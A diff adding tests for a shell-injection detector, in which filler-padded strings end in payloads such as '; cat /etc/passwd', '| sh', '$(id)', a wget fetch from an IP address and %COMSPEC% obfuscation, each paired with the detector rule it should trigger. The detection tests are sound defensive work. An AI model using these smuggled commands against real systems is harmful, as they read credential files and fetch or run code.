@@ -669,3 +669,44 @@ t.test('a command record whose name is no command: arguments counted, not classi
   t.equal(detectShellInjection(run + '"; cat /etc/passwd')?.confidence, 'high');
   t.equal(detectShellInjection(run + '`id`')?.rule, 'shell.substitution');
 });
+
+t.test('runs of skipped tokens: what follows them is judged as before', async (t) => {
+  // Pass.skipArgs / skipOpens skip simple words, short redirections, assignments and glued `$(`
+  // openers that can only move counters; the token after a run, and anything that is not such a
+  // token, is read as before. Verdicts are those of the build before the change.
+  const r = (n: number, u: string): string => u.repeat(n);
+  const cases: Array<[string, string | undefined, string | undefined]> = [
+    [r(40, 'soft cotton jersey with a relaxed fit '), undefined, undefined],
+    [r(40, 'soft cotton jersey with a relaxed fit ') + '; cat /etc/passwd', 'shell.command-chain', 'high'],
+    ['hello ' + r(50, 'a b c ') + ';id', 'shell.command-chain', 'high'],
+    ['hello ' + r(50, 'a b c ') + '| sh', 'shell.pipe-to-shell', 'high'],
+    ['note ' + r(30, 'x y ') + '$(id)', 'shell.substitution', 'high'],
+    ['note ' + r(30, 'x y ') + "system('id')", 'shell.exec-call', 'high'],
+    ['note ' + r(30, 'x "y" ') + '"$(id)"', 'shell.substitution', 'high'],
+    ['note ' + r(30, 'x <a >b ') + ';id', 'shell.command-chain', 'high'],
+    ['note ' + r(30, 'x <a >b ') + '|sh', 'shell.pipe-to-shell', 'high'],
+    [r(200, '<a x="'), undefined, undefined],
+    [r(200, "<a x='"), undefined, undefined],
+    [r(200, '<a x="') + '";id;"', 'shell.command-chain', 'high'],
+    [r(200, "<a x='") + "';id;'", 'shell.command-chain', 'high'],
+    [r(200, '<a x="') + '$(id)', 'shell.substitution', 'high'],
+    [r(20, 'x="1" ') + 'cat /etc/passwd', 'shell.command', 'high'],
+    [r(20, 'x="a b" ') + '; wget http://203.0.113.9/x', 'shell.command-chain', 'high'],
+    [r(40, 'x="1" ') + '$(id)', 'shell.substitution', 'high'],
+    [r(20, 'x=id ') + '$x', 'shell.variable-command', 'high'],
+    [r(300, '$('), undefined, undefined],
+    [r(300, '$(') + ')', 'shell.obfuscation', 'high'],
+    [r(300, '$(') + 'id' + r(300, ')'), 'shell.substitution', 'high'],
+    ['a' + r(3, '$(') + ')b', 'shell.obfuscation', 'high'],
+    [r(400, '%25'), undefined, undefined],
+    [';' + r(100, '%25') + '%COMSPEC:~-7,3%', 'shell.obfuscation', 'high'],
+    [r(100, '%25') + '&' + r(100, '%25') + '%COMSPEC:~-7,3% /c whoami', 'shell.obfuscation', 'high'],
+    [r(300, '</a>x') + '<', undefined, undefined],
+  ];
+  for (const [v, rule, conf] of cases) {
+    const d = detectShellInjection(v);
+    const name = JSON.stringify(v.length > 40 ? '…' + v.slice(-40) : v);
+    t.equal(d?.rule, rule, name);
+    t.equal(d?.confidence, conf, name);
+  }
+});
